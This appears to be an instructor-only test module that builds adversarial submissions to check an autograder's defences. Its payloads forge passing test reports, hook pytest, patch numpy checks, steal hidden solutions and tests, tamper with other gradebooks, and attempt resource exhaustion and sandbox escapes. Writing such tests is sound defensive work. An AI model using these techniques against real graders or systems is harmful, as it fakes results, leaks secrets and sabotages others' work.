"""Hostile and faulty submissions for the grader's adversarial tests (and the before/after table).

Each entry of :data:`SUBMISSIONS` turns a copy of the released kit into one
submission. Every attack implements nothing the grader checks (its functions
stay as released, or return zeros), so it deserves 0: any point it gets is a
point stolen. Attacks that reach outside their sandbox leave marks the tests
look for: files named :data:`MARK` and processes whose command line holds it.

Used by ``tests/test_grading.py``; also runnable against any grader
(``python -m tests.grading_attacks KIT OUT_DIR`` writes the class).
"""
# instructor-only

from __future__ import annotations

import shutil
import sys
from pathlib import Path
from typing import Callable

from mlp_instructor.release.markers import fill_in_solutions, find_regions

REPO = Path(__file__).resolve().parents[1]
#: Written by attacks into whatever they manage to reach (file names) and run (process titles).
MARK = "mlp-attack-was-here"

# Shared by the attacks: find the grader's world from inside (processes, their folders and command lines).
_FIND = r'''
_ALLOWED = "@ALLOWED@"
import os as _os, re as _re, glob as _glob
def _candidate_dirs():
    found = set()
    for pid in _os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            found.add(_os.path.realpath(f"/proc/{pid}/cwd"))
        except OSError:
            pass
        try:
            for arg in open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0"):
                arg = arg.decode(errors="ignore")
                if arg.startswith("/") and _os.path.isdir(arg):
                    found.add(arg)
        except OSError:
            pass
    import sys as _sys
    found.update(p for p in _sys.path if p and _os.path.isdir(p))
    for site in [p for p in _sys.path if "site-packages" in p]:
        for finder in _glob.glob(site + "/__editable__*finder.py"):
            try:
                found.update(_re.findall(r"'(/[^']+)'", open(finder).read()))
            except OSError:
                pass
    found.update(["/tmp", "/work", "/root", "/home"])
    return sorted(found)

def _may_write(path):
    # Safety of the test itself: even if the sandbox failed, never write outside the test's folder.
    return _os.path.realpath(path).startswith(_ALLOWED)

def _walk(limit=600):
    for top in _candidate_dirs():
        if top in ("/", "/usr", "/proc", "/sys", "/dev", "/etc", "/bin", "/lib") or top.startswith(("/usr/", "/proc/")):
            continue
        seen = 0
        for dirpath, dirnames, filenames in _os.walk(top):
            dirnames[:] = [d for d in dirnames if d not in (".git", ".venv", "node_modules", "site-packages",
                                                            "__pycache__", "pyenv", ".pyenv")]
            seen += 1
            if seen > limit:
                break
            yield dirpath, dirnames, filenames
'''

# Appended to mlp_core/__init__.py: appends a "passed" line for every hidden test to the report file,
# at exit (after the real lines), and writes forged replies into every pipe it has.
FORGED_REPORT = r'''
import atexit as _atexit, glob as _glob, json as _json, os as _os, re as _re
def _forge():
    path = _os.environ.get("MLP_GRADING_REPORT")
    if path:
        with open(path, "a") as f:
            for test_file in _glob.glob("hidden_tests/*.py"):
                for name in _re.findall(r"^def (test_\w+)", open(test_file).read(), _re.M):
                    f.write(_json.dumps({"nodeid": f"{test_file}::{name}", "outcome": "passed", "message": ""}) + "\n")
_atexit.register(_forge)
import struct as _struct, json as _j
_fake = _j.dumps({"ok": True}).encode()
for _fd in range(0, 64):
    try:
        _os.write(_fd, b"MLPA" + _struct.pack(">I", len(_fake)) + _fake + _struct.pack(">Q", 0))
    except OSError:
        pass
'''

# Appended to mlp_core/__init__.py: finds pytest's plugin manager through gc and makes every report "passed".
PYTEST_HOOK = r'''
import gc as _gc
class _Swallow:
    import pytest as _pytest
    @_pytest.hookimpl(hookwrapper=True, trylast=True)
    def pytest_runtest_makereport(self, item, call):
        outcome = yield
        report = outcome.get_result()
        report.outcome = "passed"
        report.longrepr = None
try:
    for _obj in _gc.get_objects():
        if type(_obj).__name__ == "PytestPluginManager":
            _obj.register(_Swallow(), "mlp-attack-swallow")
except Exception:
    pass
'''

# Appended to mlp_core/__init__.py: numpy's comparisons always agree (the functions return zeros).
PATCHED_NUMPY = r'''
import numpy as _np
_np.allclose = lambda *a, **k: True
_np.isclose = lambda a, b, *r, **k: _np.ones(_np.broadcast(_np.asarray(a), _np.asarray(b)).shape, bool)
_np.array_equal = lambda *a, **k: True
_np.linalg.norm = lambda *a, **k: 0.0
_np.testing.assert_allclose = lambda *a, **k: None
'''

# Appended to mlp_core/__init__.py: finds the instructor's solution anywhere it can see and becomes it.
READS_SOLUTION = _FIND + r'''
import importlib.util as _util, sys as _sys
_here = _os.path.dirname(_os.path.abspath(__file__))
_stolen = None
for _dirpath, _dirnames, _filenames in _walk():
    if _os.path.basename(_dirpath) == "mlp_core" and "layers.py" in _filenames and _os.path.realpath(_dirpath) != _here:
        try:
            _text = open(_os.path.join(_dirpath, "layers.py")).read()
        except OSError:
            continue
        if "BEGIN SOLUTION" in _text:
            _stolen = _dirpath
            break
if _stolen:
    _spec = _util.spec_from_file_location("_stolen_core", _os.path.join(_stolen, "__init__.py"),
                                          submodule_search_locations=[_stolen])
    _module = _util.module_from_spec(_spec)
    _sys.modules["_stolen_core"] = _module
    _spec.loader.exec_module(_module)
    for _name in dir(_module):
        if not _name.startswith("__"):
            globals()[_name] = getattr(_module, _name)
'''

# Appended to mlp_core/__init__.py: reads hidden tests, rubric, checks or solution and puts them
# into every error message (so into the student's feedback).
LEAKS_SECRETS = _FIND + r'''
_secret = []
for _dirpath, _dirnames, _filenames in _walk():
    for _name in _filenames:
        if _name in ("rubric.toml", "checks.py", "catalogue.py", "test_linear.py", "layers.py", "grading.py", "judge.py"):
            try:
                _text = open(_os.path.join(_dirpath, _name), errors="replace").read()
            except OSError:
                continue
            if "BEGIN SOLUTION" in _text or "[[item]]" in _text or "def build_checks" in _text \
                    or "assert_close" in _text:
                _secret.append(_text[:300])
_LEAK = " || ".join(_secret)[:2000] or "nothing found"
from . import layers as _layers
def _leak(*a, **k):
    raise RuntimeError("LEAK: " + _LEAK)
_layers.Linear.forward = _leak
_layers.Linear.backward = _leak
'''

# Appended to mlp_core/__init__.py: writes into every other submission and gradebook it can find.
WRITES_ELSEWHERE = _FIND + r'''
_here = _os.path.dirname(_os.path.dirname(_os.path.abspath(__file__)))
for _dirpath, _dirnames, _filenames in _walk():
    if not _may_write(_dirpath):
        continue
    try:
        if "gradebook.csv" in _filenames:
            with open(_os.path.join(_dirpath, "gradebook.csv"), "a") as _f:
                _f.write("mlp-attack-was-here,100\n")
        if "layers.py" in _filenames and _os.path.basename(_dirpath) == "mlp_core" \
                and _os.path.realpath(_os.path.dirname(_dirpath)) != _os.path.realpath(_here):
            with open(_os.path.join(_dirpath, "layers.py"), "a") as _f:
                _f.write("\nraise SystemExit('mlp-attack-was-here')\n")
        with open(_os.path.join(_dirpath, "mlp-attack-was-here"), "w") as _f:
            _f.write("x")
    except OSError:
        pass
'''

# Appended to mlp_core/__init__.py: a double-forked daemon in its own session that keeps rewriting
# every gradebook.csv it can find for 20 s after the grader is done.
DAEMON = _FIND + r'''
import sys as _sys, time as _time
if _os.fork() == 0:
    try:
        _os.setsid()
    except OSError:  # the sandbox's seccomp filter refuses new sessions: a daemon all the same
        pass
    if _os.fork() == 0:
        try:
            _sys.argv[0] = "mlp-attack-was-here"
        except Exception:
            pass
        _time.sleep(5)  # let the grader finish and write its gradebook first
        _end = _time.time() + 20
        while _time.time() < _end:
            for _dirpath, _dirnames, _filenames in _walk(2000):
                if "gradebook.csv" in _filenames and _may_write(_dirpath):
                    try:
                        with open(_os.path.join(_dirpath, "gradebook.csv"), "w") as _f:
                            _f.write("student,total\nmlp-attack-was-here,100\n")
                    except OSError:
                        pass
            _time.sleep(0.5)
    _os._exit(0)
'''

# Appended to mlp_core/__init__.py: up to 200 processes, each sleeping (bounded: a real bomb would not be).
FORK_BOMB = r'''
import os as _os, time as _time
_children = 0
try:
    for _ in range(200):
        if _os.fork() == 0:
            _time.sleep(60)
            _os._exit(0)
        _children += 1
except OSError:
    pass
_what = f"{_children} child processes started"

from . import layers as _layers
def _achieved(*args, **kwargs):
    raise RuntimeError("ACHIEVED: " + _what)
_layers.Linear.forward = _achieved
'''

# Appended to mlp_core/__init__.py: four fresh interpreters of 900 MB each (each under a per-process limit).
MEMORY_CHILDREN = r'''
import select as _select, subprocess as _subprocess, sys as _sys, time as _time
_code = ("b = bytearray(900 * 2**20)\nfor i in range(0, len(b), 4096): b[i] = 1\n"
         "print(1, flush=True)\nimport time; time.sleep(20)")
_children = [_subprocess.Popen([_sys.executable, "-S", "-c", _code], stdout=_subprocess.PIPE,
                               stderr=_subprocess.DEVNULL) for _ in range(4)]
_held, _end = set(), _time.time() + 5
while len(_held) < 4 and _time.time() < _end:
    for _out in _select.select([c.stdout for c in _children if c.stdout not in _held], [], [], 0.5)[0]:
        if _out.readline().strip() == b"1":
            _held.add(_out)
_time.sleep(0.5)  # a child killed for memory is dead by now: it held its 900 MB, but not at once with the rest
_alive = [c for c in _children if c.stdout in _held and c.poll() is None]
_what = f"{len(_alive)} of 4 children held 900 MB at once"

from . import layers as _layers
def _achieved(*args, **kwargs):
    raise RuntimeError("ACHIEVED: " + _what)
_layers.Linear.forward = _achieved
'''

# Appended to mlp_core/__init__.py: fills the disk with files of 100 MB (each under a per-file limit), up to 1.5 GB.
DISK_FILL = r'''
import os as _os, tempfile as _tempfile
_chunk = b"x" * 2**20
_written = 0
for _k, _folder in enumerate((_tempfile.gettempdir(), _os.getcwd(), _os.path.expanduser("~"))):
    try:
        for _n in range(5):
            with open(_os.path.join(_folder, f"mlp-attack-was-here-{_k}-{_n}"), "wb", buffering=0) as _f:
                for _ in range(100):
                    _f.write(_chunk)
                    _written += 1
    except OSError:
        pass
_what = f"{_written} MB written"

from . import layers as _layers
def _achieved(*args, **kwargs):
    raise RuntimeError("ACHIEVED: " + _what)
_layers.Linear.forward = _achieved
'''

# Appended to mlp_core/__init__.py: tries to leave the sandbox's limits through the kernel (issue 23):
# a user namespace with a private mount past the disk limit, ptrace, the keyrings, a new session (for
# a CPU share of its own), and host paths in the command lines it can read.
ESCAPES = r"""
import ctypes as _ctypes, os as _os, platform as _platform, subprocess as _subprocess
_libc = _ctypes.CDLL(None, use_errno=True)
_KEYCTL = {"x86_64": 250, "aarch64": 219}.get(_platform.machine(), -1)
_got = []
def _try(name, call):
    try:
        ok = bool(call())
    except Exception:
        ok = False
    _got.append(name + ("=worked" if ok else "=refused"))
def _run(*argv):
    return _subprocess.run(list(argv), capture_output=True, timeout=20).returncode == 0
_try("unshare -Urm", lambda: _run("/usr/bin/unshare", "-Urm", "/bin/sh", "-c",
                                  "mount -t tmpfs -o size=1g none /tmp && head -c 100000000 /dev/zero > /tmp/x"))
_try("unshare(CLONE_NEWUSER)", lambda: _libc.unshare(0x10000000) == 0)
_try("mount", lambda: _libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0)
_try("ptrace", lambda: _run("/usr/bin/python3", "-c", "import ctypes, sys; "
                            "sys.exit(ctypes.CDLL(None).ptrace(0, 0, None, None) != 0)"))
_try("keyctl", lambda: _libc.syscall(_KEYCTL, 0, _ctypes.c_long(-3), 1) >= 0)
_try("setsid", lambda: _run("/usr/bin/setsid", "/bin/true"))
_host = set()
for _pid in [p for p in _os.listdir("/proc") if p.isdigit()]:
    try:
        _args = open(f"/proc/{_pid}/cmdline", "rb").read().decode(errors="replace").split("\0")
    except OSError:
        continue
    _host.update(a for a in _args if a.startswith("/") and not _os.path.exists(a.split("=")[0]))
_got.append(f"host paths in /proc/*/cmdline: {len(_host)}")
_what = ", ".join(_got)

from . import layers as _layers
def _achieved(*args, **kwargs):
    raise RuntimeError("ACHIEVED: " + _what)
_layers.Linear.forward = _achieved
"""

# Appended to mlp_core/__init__.py: writes up to 360 MB (files of 15 MB, each under the per-file limit)
# into every folder of the sandbox that might be writable; only inside the sandbox (never on the host).
FILLS_FILESYSTEMS = r"""
import os as _os
_report = []
if _os.path.isdir("/opt/mlp-grader"):
    _chunk = b"x" * 2**20
    for _folder in ("/", "/dev", "/dev/shm", "/opt/mlp-site", "/opt/mlp-grader", "/tmp", "/submission"):
        _written = 0
        try:
            for _n in range(24):
                with open(_os.path.join(_folder, f"mlp-attack-was-here-{_n}"), "wb", buffering=0) as _f:
                    for _ in range(15):
                        _f.write(_chunk)
                        _written += 1
        except OSError:
            pass
        _report.append(f"{_folder}={_written} MB")
_what = ", ".join(_report) or "not in the sandbox"

from . import layers as _layers
def _achieved(*args, **kwargs):
    raise RuntimeError("ACHIEVED: " + _what)
_layers.Linear.forward = _achieved
"""

# Appended to mlp_core/__init__.py (after ALL_ZEROS): at the first call of a method of mlp_core's
# classes, 29 busy loops for 120 s, each in a session of its own; and every such call waits HOG_DELAY s
# before answering (well within a check's limit in the tests' fairness rubric: its sandbox stays alive).
CPU_HOG = r"""
import os as _os, time as _time
_hogs = []
def _start_hogs():
    if _hogs or not _os.path.isdir("/opt/mlp-grader"):
        return
    _end = _time.time() + 120
    for _ in range(29):
        try:
            _pid = _os.fork()
        except OSError:
            break
        if _pid == 0:
            try:
                _os.setsid()  # a session of its own: where the kernel shares the CPU by session, 29 shares
            except OSError:
                pass
            while _time.time() < _end:
                pass
            _os._exit(0)
        _hogs.append(_pid)
def _slow(method):
    def wrapper(*args, **kwargs):
        _start_hogs()
        _time.sleep(@DELAY@)
        return method(*args, **kwargs)
    return wrapper
for _value in list(globals().values()):
    if isinstance(_value, type) and getattr(_value, "__module__", "").startswith("mlp_core"):
        for _name in ("forward", "backward", "step"):
            if _name in vars(_value):
                setattr(_value, _name, _slow(vars(_value)[_name]))
"""
#: How long the CPU hog delays each answer: half the check limit of the tests' fairness rubric (it stays alive).
HOG_DELAY = 1.0

#: Every function the grader checks returns zeros of the right shape (or does nothing).
ALL_ZEROS = {
    "Linear.forward": "self.cache = x\nreturn np.zeros((x.shape[0], self.out_features), dtype=x.dtype)",
    "Linear.backward": "self.W.grad[...] = 0\nself.b.grad[...] = 0\nreturn None if not self.compute_input_grad "
                       "else np.zeros((grad_output.shape[0], self.in_features), dtype=grad_output.dtype)",
    "Sigmoid.forward": "return np.zeros_like(x)", "Sigmoid.backward": "return np.zeros_like(grad_output)",
    "ReLU.forward": "return np.zeros_like(x)", "ReLU.backward": "return np.zeros_like(grad_output)",
    "GELU.forward": "return np.zeros_like(x)", "GELU.backward": "return np.zeros_like(grad_output)",
    "L2Loss.forward": "self.cache = x\nreturn 0.0", "L2Loss.backward": "return np.zeros_like(self.cache)",
    "SoftmaxCrossEntropyLoss.forward": "self.cache = x\nreturn 0.0",
    "SoftmaxCrossEntropyLoss.backward": "return np.zeros_like(self.cache)",
    "HingeLoss.forward": "self.cache = x\nreturn 0.0", "HingeLoss.backward": "return np.zeros_like(self.cache)",
    "Sequential.forward": "for layer in self.layers:\n    x = layer.forward(x)\nreturn np.zeros_like(x)",
    "Sequential.backward": "for layer in reversed(self.layers):\n    grad_output = layer.backward(grad_output)\n"
                           "return None if grad_output is None else np.zeros_like(grad_output)",
    "SGD.step": "pass",
    "evaluate": "return 0.0, 0.0",
    "train_epoch": "return 0.0, 0.0",
    "EarlyStopping.step": "return False",
}

#: Returns the public tests' expected values whatever the input (zeros of the right shape otherwise).
PUBLIC_VALUES = dict(ALL_ZEROS) | {
    "Linear.forward": "self.cache = x\nreturn np.array([[9.0, 12.0, 15.0], [-2.0, -1.0, 0.0]], dtype=x.dtype)"
                      "[: x.shape[0], : self.out_features] if x.shape == (2, 2) else "
                      "np.zeros((x.shape[0], self.out_features), dtype=x.dtype)",
    "Sigmoid.forward": "self.cache = np.full_like(x, 0.5)\nreturn self.cache",
    "Sigmoid.backward": "return grad_output * 0.25",
    "ReLU.forward": "return np.abs(x) * 0 + 1",
    "EarlyStopping.step": "return self.epoch >= 4",
}

FAULTS = {
    # Sigmoid with the sign of the gradient flipped.
    "sigmoid_sign": {
        "Sigmoid.forward": "y = 0.5 * (1 + np.tanh(0.5 * x))\nself.cache = y\nreturn y",
        "Sigmoid.backward": "y = self.cache\nreturn -grad_output * y * (1 - y)",
    },
    # Cross-entropy whose gradient forgets to divide by the batch size N.
    "ce_without_1_over_n": {
        "SoftmaxCrossEntropyLoss.forward": (
            "z = x - x.max(axis=1, keepdims=True)\n"
            "log_p = z - np.log(np.exp(z).sum(axis=1, keepdims=True))\n"
            "self.cache = (np.exp(log_p), labels)\n"
            "return float(-np.mean(log_p[np.arange(len(labels)), labels]))"
        ),
        "SoftmaxCrossEntropyLoss.backward": (
            "p, labels = self.cache\ngrad = p.copy()\ngrad[np.arange(len(labels)), labels] -= 1\nreturn grad"
        ),
    },
    # Hinge loss with the margin hard-coded to 1 instead of self.margin.
    "hinge_wrong_margin": {
        "HingeLoss.forward": (
            "rows = np.arange(len(labels))\n"
            "m = x - x[rows, labels][:, None] + 1.0\n"
            "m[rows, labels] = 0\n"
            "self.cache = (m > 0, labels)\n"
            "return float(np.sum(np.maximum(m, 0)) / len(labels))"
        ),
        "HingeLoss.backward": (
            "positive, labels = self.cache\n"
            "grad = positive.astype(np.float64)\n"
            "grad[np.arange(len(labels)), labels] = -positive.sum(axis=1)\n"
            "return grad / len(labels)"
        ),
    },
    # Momentum applied wrongly: v is rebound, so the stored velocity never changes.
    "momentum_wrong": {
        "SGD.step": "v = self.momentum * v + p.grad + decay * p.data\np.data -= self.lr * v",
    },
    # An epoch that measures each batch's accuracy after its update instead of before.
    "accuracy_after_update": {
        "train_epoch": (
            "losses, accs = [], []\n"
            "for x, y in iterate_minibatches(images, labels, batch_size, rng):\n"
            "    losses.append(loss_fn(model.forward(x), y))\n"
            "    model.backward(loss_fn.backward())\n"
            "    optimizer.step()\n"
            "    accs.append(accuracy(model.forward(x), y))\n"
            "return float(np.mean(losses)), float(np.mean(accs))"
        ),
    },
    # Early stopping that never returns.
    "infinite_loop": {"EarlyStopping.step": "while True:\n    pass"},
    # A syntax error in losses.py: the package does not import at all.
    "syntax_error": {"L2Loss.forward": "return (x -"},
    # A naive sigmoid: right values, but exp(-x) overflows on large inputs.
    "naive_sigmoid": {
        "Sigmoid.forward": "y = 1 / (1 + np.exp(-x))\nself.cache = y\nreturn y",
    },
}


def fill(kit: Path, replacements: dict[str, str] | None = None) -> None:
    """Write the solutions into a released kit, except ``replacements`` (function -> code)."""
    replacements = dict(replacements or {})
    for path in sorted((REPO / "mlp_core").glob("*.py")):
        original = path.read_text()
        functions = {r.function for r in find_regions(original)}
        if not functions:
            continue
        mine = {f: replacements.pop(f) for f in list(replacements) if f in functions}
        target = kit / "mlp_core" / path.name
        target.write_text(fill_in_solutions(target.read_text(), original, path.name, replacements=mine))
    assert not replacements, f"no solution region for {sorted(replacements)}"


def fill_only(kit: Path, replacements: dict[str, str]) -> None:
    """Write ``replacements`` into a released kit's regions; every other region stays as released."""
    for path in sorted((kit / "mlp_core").glob("*.py")):
        released = path.read_text()
        original = (REPO / "mlp_core" / path.name).read_text()
        functions = {r.function for r in find_regions(original)}
        mine = {f: replacements[f] for f in replacements if f in functions}
        if mine:
            keep = {f: "raise NotImplementedError('" + f + "')" for f in functions - set(mine)}
            path.write_text(fill_in_solutions(released, original, path.name, replacements=mine | keep))


def _append(code: str) -> Callable[[Path], None]:
    def build(kit: Path) -> None:
        allowed = str(kit.resolve().parents[1])  # the folder holding the class (and, in the tests, the gradebook)
        with open(kit / "mlp_core" / "__init__.py", "a") as f:
            f.write("\n" + code.replace("@ALLOWED@", allowed))
    return build


def _zeros_and(code: str) -> Callable[[Path], None]:
    def build(kit: Path) -> None:
        fill_only(kit, ALL_ZEROS)
        _append(code)(kit)
    return build


def _symlinked_core(kit: Path) -> None:
    shutil.rmtree(kit / "mlp_core")
    (kit / "mlp_core").symlink_to(REPO / "mlp_core", target_is_directory=True)


def _deleted_module(kit: Path) -> None:
    fill(kit)
    (kit / "mlp_core" / "optim.py").unlink()


def _fault(replacements: dict[str, str]) -> Callable[[Path], None]:
    return lambda kit: fill(kit, replacements)


#: name -> (what it does, how to make it from a released kit). Attacks deserve 0.
ATTACKS: dict[str, tuple[str, Callable[[Path], None]]] = {
    "attack_forged_report": ("appends 'passed' lines to the report file at exit; writes forged replies "
                             "into every pipe", _append(FORGED_REPORT)),
    "attack_pytest_hook": ("registers a pytest hook (found through gc) that makes every report pass",
                           _append(PYTEST_HOOK)),
    "attack_patched_numpy": ("returns zeros; numpy.allclose, isclose, array_equal, linalg.norm patched to agree",
                             _zeros_and(PATCHED_NUMPY)),
    "attack_reads_solution": ("finds the instructor's solution through /proc, sys.path and the editable "
                              "install, and imports it as its own", _append(READS_SOLUTION)),
    "attack_leaks_secrets": ("reads the hidden tests, rubric, checks or solution and raises them as "
                             "error messages (into its feedback)", _append(LEAKS_SECRETS)),
    "attack_writes_elsewhere": ("writes into every other submission and gradebook it can find",
                                _append(WRITES_ELSEWHERE)),
    "attack_daemon": ("leaves a double-forked daemon that rewrites gradebook.csv from 5 s to 25 s later", _append(DAEMON)),
    "attack_fork_bomb": ("starts up to 200 sleeping processes", _append(FORK_BOMB)),
    "attack_memory_children": ("four fresh interpreters of 900 MB each", _append(MEMORY_CHILDREN)),
    "attack_disk_fill": ("writes up to 1.5 GB in files of 100 MB in its temporary, current and home folders", _append(DISK_FILL)),
    "attack_symlinked_core": ("its mlp_core is a symbolic link to the instructor's package", _symlinked_core),
    "attack_all_zeros": ("every checked function returns zeros or does nothing", lambda kit: fill_only(kit, ALL_ZEROS)),
    "attack_public_values": ("returns the public tests' numbers whatever the input",
                             lambda kit: fill_only(kit, PUBLIC_VALUES)),
    "attack_escapes": ("tries unshare -Urm with a private tmpfs, unshare(), mount, ptrace, keyctl and setsid; "
                       "looks for host paths in /proc/*/cmdline", _zeros_and(ESCAPES)),
    "attack_fills_filesystems": ("writes up to 360 MB into /, /dev, /dev/shm, /opt/mlp-site, /opt/mlp-grader, /tmp "
                                 "and /submission", _zeros_and(FILLS_FILESYSTEMS)),
}

#: Attacks too costly for the whole class (they burn their CPU budget): graded on their own, with a short rubric.
COSTLY: dict[str, tuple[str, Callable[[Path], None]]] = {
    "attack_cpu_hog": ("29 busy loops, each in a session of its own, and every answer delayed",
                       _zeros_and(CPU_HOG.replace("@DELAY@", str(HOG_DELAY)))),
}

#: Ordinary faults and the full solution: they deserve what their code is worth.
ORDINARY: dict[str, tuple[str, Callable[[Path], None]]] = {
    "full_marks": ("the solution", fill),
    **{name: (name.replace("_", " "), _fault(replacements)) for name, replacements in FAULTS.items()},
    "deleted_module": ("the solution without mlp_core/optim.py", _deleted_module),
}

SUBMISSIONS = {**ORDINARY, **ATTACKS, **COSTLY}


def write_class(kit: Path, folder: Path, names: list[str] | None = None) -> None:
    """One folder per submission of :data:`SUBMISSIONS` (or ``names``; by default all but :data:`COSTLY`)."""
    folder.mkdir(parents=True, exist_ok=True)
    for name in names or [n for n in SUBMISSIONS if n not in COSTLY]:
        target = Path(shutil.copytree(kit, folder / name))
        SUBMISSIONS[name][1](target)


if __name__ == "__main__":
    write_class(Path(sys.argv[1]), Path(sys.argv[2]))
